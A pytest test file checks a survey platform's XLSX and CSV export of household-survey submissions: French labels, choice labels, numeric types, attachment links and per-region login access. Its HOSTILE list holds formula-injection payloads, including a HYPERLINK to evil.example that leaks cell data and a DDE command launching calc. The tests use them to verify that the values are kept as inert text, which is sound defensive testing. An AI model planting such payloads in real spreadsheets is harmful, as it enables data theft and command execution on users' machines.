"""Central's XLSX export of a form's submissions (issue 17), opened with openpyxl: the
form's French labels (or its default language), choices by their labels, numbers as
numbers, attachments as links to central, and hostile values kept as text, never run
as formulas."""

from __future__ import annotations

import csv
import hashlib
import io
import re
from xml.sax.saxutils import escape

import openpyxl
import pytest
from pyxform.xls2xform import convert

from tests.central.harness import central_call, make_central

from .xlsforms import write_xlsform

PASSWORD = "correct horse battery"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+33 6 00",
    "@SUM(A1:A9)",
    "-1+1",
    "=cmd|' /C calc'!A0",
]
SURVEY = [
    ["type", "name", "label::English (en)", "label::French (fr)"],
    ["text", "nom", "Name", "Nom du chef de ménage"],
    ["integer", "taille", "Household size", "Taille du ménage"],
    ["decimal", "revenu", "Income", "Revenu (FCFA)"],
    ["select_one oui_non", "eau", "Drinking water?", "Eau potable ?"],
    ["select_multiple source", "sources", "Sources", "Sources d'eau"],
    ["begin_group", "lieu", "Place", "Lieu"],
    ["text", "village", "Village", "Village"],
    ["end_group", "", "", ""],
    ["image", "photo", "Photo", "Photo du forage"],
]
CHOICES = [
    ["list_name", "name", "label::English (en)", "label::French (fr)"],
    ["oui_non", "oui", "Yes", "Oui"],
    ["oui_non", "non", "No", "Non"],
    ["source", "forage", "Borehole", "Forage"],
    ["source", "puits", "Well", "Puits"],
    ["source", "fleuve", "River", "Fleuve"],
]
JPEG = b"\xff\xd8\xff\xe0" + b"photo du forage"


def xform(tmp_path, survey=SURVEY, choices=CHOICES, form_id="menage") -> str:
    path = write_xlsform(tmp_path / f"{form_id}.xlsx", form_id=form_id, survey=survey, media={})
    book = openpyxl.load_workbook(path)
    book.remove(book["choices"])
    sheet = book.create_sheet("choices")
    for row in choices:
        sheet.append(row)
    if not any("French" in str(c) for c in survey[0]):
        book["settings"]["D2"] = None  # no default_language: the form's default
    book.save(path)
    return convert(xlsform=str(path), validate=False).xform


def submission(instance: str, **given: str) -> str:
    v = {k: escape(x) for k, x in given.items()}
    return (
        f'<data id="menage" version="1"><nom>{v.get("nom", "")}</nom>'
        f"<taille>{v.get('taille', '')}</taille><revenu>{v.get('revenu', '')}</revenu>"
        f"<eau>{v.get('eau', '')}</eau><sources>{v.get('sources', '')}</sources>"
        f"<lieu><village>{v.get('village', '')}</village></lieu>"
        f"<photo>{v.get('photo', '')}</photo>"
        f"<meta><instanceID>{instance}</instanceID></meta></data>"
    )


@pytest.fixture
def capp(tmp_path):
    return make_central(tmp_path / "central", SERVER_NAME="central.test")


def seed(capp, xml: str, subs: list[tuple[str, str]], form_id: str = "menage") -> int:
    from central import service
    from central.models import Region
    from central.surveys import SurveyAttachment, SurveyForm, SurveySubmission

    site, _code = service.create_site("nioro", "Espace Nioro", "Kayes", ["Nioro"])
    service.create_admin("awa", PASSWORD, "regional", "Kayes")
    SurveyForm.create(
        form_id=form_id,
        version="1",
        title="Ménage",
        xml=xml,
        region=Region.get(Region.name == "Kayes"),
    )
    for instance, body in subs:
        SurveySubmission.create(
            site=site,
            instance_id=instance,
            form_id=form_id,
            version="1",
            received_at="2026-11-30T08:00:00+00:00",
            xml=body,
            enumerator="moussa",
        )
    sha = hashlib.sha256(JPEG).hexdigest()
    path = service.blob_path(capp.config["DATA_DIR"], sha)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(JPEG)
    return SurveyAttachment.create(
        site=site,
        instance_id=subs[0][0],
        name="forage.jpg",
        sha256=sha,
        mime="image/jpeg",
        size=len(JPEG),
    ).id


def logged_in(capp):
    client = capp.test_client()
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    r = client.post("/login", data={"username": "awa", "password": PASSWORD, "csrf": token})
    assert r.status_code == 302
    return client


def workbook(client, form_id="menage"):
    r = client.get(f"/surveys/{form_id}.xlsx")
    assert r.status_code == 200
    assert r.headers["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert f"filename={form_id}.xlsx" in r.headers["Content-Disposition"]
    return openpyxl.load_workbook(io.BytesIO(r.data)).active


def test_labels_in_french_choices_numbers_and_attachment_links(capp, tmp_path):
    xml = xform(tmp_path)
    subs = [
        (
            "uuid:1",
            submission(
                "uuid:1",
                nom="Awa Traoré",
                taille="6",
                revenu="1250.5",
                eau="oui",
                sources="forage fleuve",
                village="Diaye Coura",
                photo="forage.jpg",
            ),
        ),
        (
            "uuid:2",
            submission(
                "uuid:2",
                nom=HOSTILE[0],
                taille="beaucoup",
                eau="non",
                sources="puits inconnu",
                village=HOSTILE[1],
            ),
        ),
        *[
            (f"uuid:h{i}", submission(f"uuid:h{i}", nom=h, village=h))
            for i, h in enumerate(HOSTILE)
        ],
    ]
    att = central_call(capp, seed, capp, xml, subs)
    client = logged_in(capp)
    ws = workbook(client)
    header = [c.value for c in ws[1]]
    assert header == [
        "Site",
        "instanceID",
        "Reçu le",
        "Enquêteur",
        "Nom du chef de ménage",
        "Taille du ménage",
        "Revenu (FCFA)",
        "Eau potable ?",
        "Sources d'eau",
        "Village",
        "Photo du forage",
    ]
    rows = {r[1].value: r for r in ws.iter_rows(min_row=2)}
    first = [c.value for c in rows["uuid:1"]]
    assert first == [
        "nioro",
        "uuid:1",
        "2026-11-30T08:00:00+00:00",
        "moussa",
        "Awa Traoré",
        6,
        1250.5,
        "Oui",
        "Forage, Fleuve",
        "Diaye Coura",
        "forage.jpg",
    ]
    photo = rows["uuid:1"][10]
    assert photo.hyperlink.target == f"http://central.test/surveys/attachments/{att}"
    second = [c.value for c in rows["uuid:2"]]
    # A value the form does not know stays as typed: nothing is lost.
    assert second[5:9] == ["beaucoup", None, "Non", "Puits, inconnu"]
    # Hostile values: exactly as typed, as text (no cell of the sheet is a formula).
    for i, h in enumerate(HOSTILE):
        row = rows[f"uuid:h{i}"]
        assert (row[4].value, row[9].value) == (h, h)
        assert row[4].data_type == "s" and row[9].data_type == "s"
    assert rows["uuid:2"][4].value == HOSTILE[0] and rows["uuid:2"][9].value == HOSTILE[1]
    assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"]
    # The CSV says the same choices by their labels; its formulas are defused with '.
    text = client.get("/surveys/menage.csv").data.decode("utf-8-sig")
    rows = {r[1]: r for r in csv.reader(io.StringIO(text), delimiter=";")}
    assert rows["uuid:1"][7:9] == ["Oui", "Forage, Fleuve"]
    assert rows["uuid:2"][4] == "'" + HOSTILE[0]


def test_label_fr_column_else_the_default_label(capp, tmp_path):
    from central.surveys_export import describe

    short = [
        ["type", "name", "label", "label::fr"],
        ["text", "nom", "Name", "Nom"],
        ["select_one oui_non", "eau", "Water?", "Eau ?"],
    ]
    choices = [
        ["list_name", "name", "label", "label::fr"],
        ["oui_non", "oui", "Yes", "Oui"],
        ["oui_non", "non", "No", "Non"],
    ]
    qs = describe(xform(tmp_path, short, choices, form_id="court"))
    assert [(q.label, q.choices) for q in qs] == [
        ("Nom", {}),
        ("Eau ?", {"oui": "Oui", "non": "Non"}),
    ]
    plain = [
        ["type", "name", "label"],
        ["text", "nom", "Nom du répondant"],
        ["select_one oui_non", "eau", "Eau potable ?"],
    ]
    choices = [["list_name", "name", "label"], ["oui_non", "oui", "Oui"], ["oui_non", "non", "Non"]]
    qs = describe(xform(tmp_path, plain, choices, form_id="simple"))
    assert [(q.label, q.choices) for q in qs] == [
        ("Nom du répondant", {}),
        ("Eau potable ?", {"oui": "Oui", "non": "Non"}),
    ]
    # English only, and a language whose name merely contains "fr" (Afrikaans): the
    # default language's label, never the Afrikaans one taken for French.
    other = [
        ["type", "name", "label::English (en)", "label::Afrikaans (af)"],
        ["text", "nom", "Name", "Naam"],
    ]
    choices = [["list_name", "name", "label::English (en)"], ["x", "a", "A"]]
    book = xform(tmp_path, other, choices, form_id="autre")
    assert [q.label for q in describe(book)] == ["Name"]


def test_the_export_needs_a_login_and_shows_only_the_admins_sites(capp, tmp_path):
    from central import service

    xml = xform(tmp_path)
    central_call(capp, seed, capp, xml, [("uuid:1", submission("uuid:1", nom="Awa"))])
    assert capp.test_client().get("/surveys/menage.xlsx").status_code in (302, 303)
    other, _ = central_call(
        capp, service.create_site, "sikasso", "Espace Sikasso", "Sikasso", ["Sikasso"]
    )

    def add():
        from central.surveys import SurveySubmission

        SurveySubmission.create(
            site=other,
            instance_id="uuid:other",
            form_id="menage",
            version="1",
            received_at="2026-11-30T09:00:00+00:00",
            xml=submission("uuid:other", nom="Autre région"),
        )

    central_call(capp, add)
    ws = workbook(logged_in(capp))
    assert [r[1].value for r in ws.iter_rows(min_row=2)] == ["uuid:1"]
